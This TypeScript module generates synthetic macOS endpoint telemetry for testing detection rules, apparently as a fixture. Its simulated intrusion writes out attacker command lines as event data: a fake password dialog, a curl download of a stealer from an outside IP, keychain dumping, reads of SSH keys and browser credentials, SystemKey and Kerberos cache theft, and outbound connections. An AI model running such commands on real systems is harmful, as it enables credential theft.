/**
 * A small, realistic macOS incident in Elastic Defend events, generated deterministically:
 * three hosts, a few days of background activity (process, file, network, authentication), and
 * one intrusion on mbp-alice (a dropped Python stealer reading credential stores, keychain dump,
 * SystemKey read) plus Kerberos cache dumping on mbp-bob. Every seed rule in rules/macos fires.
 * A second, later day re-reads some of the same credential files, so its new-terms verdicts
 * depend on the first archive's history.
 */
import { authenticationEvent, fileEvent, networkEvent, processEnd, processStart, type Event, type Host, type Process, type User } from './endpoint-events.ts';
import { Dice, seededRandom } from './prng.ts';

export interface CaseFile {
  /** Path inside the archive. */
  readonly path: string;
  readonly events: readonly Event[];
}

export interface CaseDay {
  readonly name: string;
  readonly files: readonly CaseFile[];
}

const DAY = 86_400_000;
const alice: User = { name: 'alice', id: '501' };
const bob: User = { name: 'bob', id: '502' };
const ci: User = { name: 'ci', id: '503' };
const root: User = { name: 'root', id: '0' };

const HOSTS: readonly Host[] = [
  { id: '8d2a6c1e-4b1f-4f7e-9c55-1a2b3c4d5e01', name: 'mbp-alice', ip: '10.20.1.15', users: [alice], osVersion: '14.4.1' },
  { id: '8d2a6c1e-4b1f-4f7e-9c55-1a2b3c4d5e02', name: 'mbp-bob', ip: '10.20.1.22', users: [bob], osVersion: '14.3.1' },
  { id: '8d2a6c1e-4b1f-4f7e-9c55-1a2b3c4d5e03', name: 'build-mini-01', ip: '10.20.5.40', users: [ci], osVersion: '13.6.6' },
];

const COMMANDS: readonly (readonly string[])[] = [
  ['/usr/bin/git', 'git', 'status'],
  ['/usr/bin/git', 'git', 'pull', '--rebase'],
  ['/bin/ls', 'ls', '-la'],
  ['/usr/bin/ssh', 'ssh', 'deploy@10.20.9.4'],
  ['/opt/homebrew/bin/brew', 'brew', 'update'],
  ['/usr/bin/vim', 'vim', 'notes.md'],
  ['/usr/bin/open', 'open', '-a', 'Safari'],
  ['/usr/bin/defaults', 'defaults', 'read', 'com.apple.dock'],
  ['/usr/sbin/networksetup', 'networksetup', '-getinfo', 'Wi-Fi'],
  ['/usr/bin/pbcopy', 'pbcopy'],
];
const DAEMONS: readonly (readonly string[])[] = [
  ['/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared', 'mdworker_shared', '-s', 'mdworker', '-c', 'MDSImporterWorker'],
  ['/usr/libexec/xpcproxy', 'xpcproxy', 'com.apple.softwareupdated'],
  ['/System/Library/PrivateFrameworks/MobileSoftwareUpdate.framework/Support/softwareupdated', 'softwareupdated'],
  ['/usr/libexec/trustd', 'trustd', '--agent'],
];
const DESTINATIONS = [
  { ip: '192.0.2.10', port: 443, domain: 'updates.example.com' },
  { ip: '198.51.100.7', port: 443, domain: 'mail.example.org' },
  { ip: '198.51.100.23', port: 22 },
  { ip: '192.0.2.80', port: 443, domain: 'git.example.net' },
];

class CaseBuilder {
  readonly events: Event[] = [];
  private nextPid = 400;
  private readonly launchd = new Map<string, Process>();

  constructor(readonly dice: Dice) {}

  launchdOf(host: Host): Process {
    let process = this.launchd.get(host.id);
    if (!process) {
      process = { entityId: `${host.name}-launchd`, pid: 1, name: 'launchd', executable: '/sbin/launchd', args: ['/sbin/launchd'], user: root };
      this.launchd.set(host.id, process);
    }
    return process;
  }

  spawn(host: Host, parent: Process | undefined, user: User, [executable, ...args]: readonly string[], time: number, end = true): Process {
    const pid = this.nextPid++;
    const process: Process = { entityId: `${host.name}-${pid}-${this.dice.hex(8)}`, pid, name: args[0]!.slice(args[0]!.lastIndexOf('/') + 1), executable: executable!, args, ...(parent ? { parent } : {}), user };
    this.events.push(processStart(host, process, time, this.dice));
    if (end) this.events.push(processEnd(host, process, time + this.dice.int(200, 60_000), this.dice));
    return process;
  }

  file(host: Host, process: Process, time: number, action: 'open' | 'creation' | 'modification' | 'deletion', path: string): void {
    this.events.push(fileEvent(host, process, time, action, path, this.dice));
  }

  connect(host: Host, process: Process, time: number, destination: { ip: string; port: number; domain?: string }): void {
    this.events.push(networkEvent(host, process, time, destination, this.dice));
  }

  login(host: Host, user: User, time: number, outcome: 'success' | 'failure', via = { name: 'loginwindow', executable: '/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow' }): void {
    this.events.push(authenticationEvent(host, user, time, 'log_on', outcome, via, this.dice));
  }

  /** A working day of one host: a login, a shell, commands, daemons, files, connections. */
  backgroundDay(host: Host, dayStart: number, busy: number): void {
    const { dice } = this;
    const user = host.users[0]!;
    const morning = dayStart + 8 * 3_600_000 + dice.int(0, 3_600_000);
    if (dice.float() < 0.3) this.login(host, user, morning - 60_000, 'failure');
    this.login(host, user, morning, 'success');
    const launchd = this.launchdOf(host);
    const terminal = this.spawn(host, launchd, user, ['/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', 'Terminal'], morning + 5_000, false);
    const shell = this.spawn(host, terminal, user, ['/bin/zsh', '-zsh'], morning + 6_000, false);
    const workday = 9 * 3_600_000;
    for (let i = 0; i < busy; i++) {
      const time = morning + dice.int(10_000, workday);
      const roll = dice.float();
      if (roll < 0.35) {
        const command = this.spawn(host, shell, user, dice.pick(COMMANDS), time);
        if (command.name === 'git' || command.name === 'ssh') this.connect(host, command, time + 300, dice.pick(DESTINATIONS));
        if (command.name === 'vim') this.file(host, command, time + 2_000, 'modification', `/Users/${user.name}/Documents/notes.md`);
      } else if (roll < 0.55) {
        const daemon = this.spawn(host, launchd, root, dice.pick(DAEMONS), time);
        this.file(host, daemon, time + 100, 'creation', `/private/var/folders/zz/${dice.hex(6)}/T/${daemon.name}.${dice.hex(4)}`);
      } else if (roll < 0.8) {
        const process = { entityId: `${host.name}-safari`, pid: 330, name: 'com.apple.WebKit.Networking', executable: '/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking', args: ['com.apple.WebKit.Networking'], user };
        this.connect(host, process, time, dice.pick(DESTINATIONS));
      } else if (roll < 0.95) {
        const writer = { entityId: `${host.name}-finder`, pid: 410, name: 'Finder', executable: '/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder', args: ['Finder'], user };
        this.file(host, writer, time, dice.pick(['creation', 'modification', 'deletion'] as const), `/Users/${user.name}/Downloads/${dice.pick(['report', 'invoice', 'photo', 'slides'])}-${dice.int(1, 40)}.${dice.pick(['pdf', 'png', 'key'])}`);
      } else {
        // Device management reads certificates from the system keychain: excluded by the keychain rule.
        this.spawn(host, launchd, root, ['/usr/bin/security', 'security', 'find-certificate', '-a', '-p', '/Library/Keychains/System.keychain'], time);
        this.events.push(authenticationEvent(host, user, time + 500, 'log_on', 'success', { name: 'sudo', executable: '/usr/bin/sudo' }, dice));
      }
    }
  }

  /** The CI host's build: Python reads the project's own files every day (first-time alerts on day one only). */
  buildRun(host: Host, dayStart: number): void {
    const time = dayStart + 2 * 3_600_000 + this.dice.int(0, 600_000);
    const runner = this.spawn(host, this.launchdOf(host), ci, ['/Users/ci/actions-runner/bin/Runner.Listener', 'Runner.Listener', 'run'], time, false);
    const python = this.spawn(host, runner, ci, ['/opt/homebrew/bin/python3', 'python3', '-m', 'pytest', 'tests/'], time + 1_000);
    for (const path of ['/Users/ci/build/requirements.txt', '/Users/ci/build/pyproject.toml', '/Users/ci/build/tests/conftest.py']) {
      this.file(host, python, time + 2_000 + this.dice.int(0, 5_000), 'open', path);
    }
  }
}

const STOLEN_FILES = [
  '/Users/alice/Library/Keychains/login.keychain-db',
  '/Users/alice/.ssh/id_ed25519',
  '/Users/alice/Library/Application Support/Google/Chrome/Default/Login Data',
  '/Users/alice/Library/Cookies/Cookies.binarycookies',
];

function intrusion(builder: CaseBuilder, host: Host, at: number): void {
  const shell = builder.spawn(host, builder.launchdOf(host), alice, ['/bin/zsh', '-zsh'], at, false);
  const osascript = builder.spawn(host, shell, alice, ['/usr/bin/osascript', 'osascript', '-e', 'display dialog "Software Update requires your password" default answer "" with hidden answer'], at + 4_000);
  const curl = builder.spawn(host, osascript, alice, ['/usr/bin/curl', 'curl', '-so', '/Users/alice/.cache/updater.py', 'https://203.0.113.45/u.py'], at + 30_000);
  builder.connect(host, curl, at + 30_200, { ip: '203.0.113.45', port: 443 });
  builder.file(host, curl, at + 31_000, 'creation', '/Users/alice/.cache/updater.py');
  const python = builder.spawn(host, shell, alice, ['/opt/homebrew/bin/python3', 'python3', '/Users/alice/.cache/updater.py'], at + 45_000, false);
  STOLEN_FILES.forEach((path, i) => builder.file(host, python, at + 46_000 + i * 700, 'open', path));
  // Read again a minute later: the same terms, so no second new-terms alert.
  builder.file(host, python, at + 110_000, 'open', STOLEN_FILES[0]!);
  builder.spawn(host, python, alice, ['/usr/bin/security', 'security', 'dump-keychain', '-d', '/Users/alice/Library/Keychains/login.keychain-db'], at + 60_000);
  builder.events.push(authenticationEvent(host, alice, at + 80_000, 'log_on', 'success', { name: 'sudo', executable: '/usr/bin/sudo' }, builder.dice));
  const sudo = builder.spawn(host, python, root, ['/usr/bin/sudo', 'sudo', 'cat', '/private/var/db/SystemKey'], at + 80_500);
  builder.spawn(host, sudo, root, ['/bin/cat', 'cat', '/private/var/db/SystemKey'], at + 80_700);
  builder.connect(host, python, at + 120_000, { ip: '203.0.113.45', port: 8443 });
}

function kerberosDump(builder: CaseBuilder, host: Host, at: number): void {
  const shell = builder.spawn(host, builder.launchdOf(host), bob, ['/bin/zsh', '-zsh'], at, false);
  builder.spawn(host, shell, bob, ['/usr/bin/kcc', 'kcc', 'copy_cred_cache', '/tmp/krb5cc_502'], at + 9_000);
  builder.spawn(host, shell, bob, ['/usr/bin/klist', 'klist'], at + 15_000);
}

/** Splits events into one file per host and data stream, each in time order. */
function filesOf(events: readonly Event[]): CaseFile[] {
  const byPath = new Map<string, Event[]>();
  for (const event of events) {
    const host = (event['host'] as { name: string }).name;
    const dataset = (event['data_stream'] as { dataset: string }).dataset.replace('endpoint.events.', '');
    const path = `endpoint/${host}/${dataset}.ndjson`;
    const list = byPath.get(path) ?? [];
    list.push(event);
    byPath.set(path, list);
  }
  const time = (event: Event) => Date.parse(event['@timestamp'] as string);
  return [...byPath.entries()].sort(([a], [b]) => (a < b ? -1 : 1)).map(([path, list]) => ({ path, events: list.sort((a, b) => time(a) - time(b)) }));
}

export const CASE_START = Date.UTC(2024, 4, 6);

export function macosCase(seed = 20240506): { first: CaseDay; second: CaseDay } {
  const dice = new Dice(seededRandom(seed));
  const first = new CaseBuilder(dice);
  for (let day = 0; day < 4; day++) {
    const dayStart = CASE_START + day * DAY;
    for (const host of HOSTS) first.backgroundDay(host, dayStart, 90);
    first.buildRun(HOSTS[2]!, dayStart);
  }
  intrusion(first, HOSTS[0]!, CASE_START + DAY + 14 * 3_600_000 + 17 * 60_000);
  kerberosDump(first, HOSTS[1]!, CASE_START + 2 * DAY + 11 * 3_600_000 + 3 * 60_000);

  const second = new CaseBuilder(dice);
  const dayStart = CASE_START + 4 * DAY;
  for (const host of HOSTS) second.backgroundDay(host, dayStart, 70);
  second.buildRun(HOSTS[2]!, dayStart);
  // The stealer runs again: one file it read on day two, and one it never read before.
  const alicePython = second.spawn(HOSTS[0]!, second.launchdOf(HOSTS[0]!), alice, ['/opt/homebrew/bin/python3', 'python3', '/Users/alice/.cache/updater.py'], dayStart + 10 * 3_600_000, false);
  second.file(HOSTS[0]!, alicePython, dayStart + 10 * 3_600_000 + 2_000, 'open', STOLEN_FILES[0]!);
  second.file(HOSTS[0]!, alicePython, dayStart + 10 * 3_600_000 + 3_000, 'open', '/Users/alice/Library/Group Containers/2BUA8C4S2C.com.1password/t/1password.sqlite');

  return {
    first: { name: 'macos-case-2024-05-09', files: filesOf(first.events) },
    second: { name: 'macos-case-2024-05-10', files: filesOf(second.events) },
  };
}
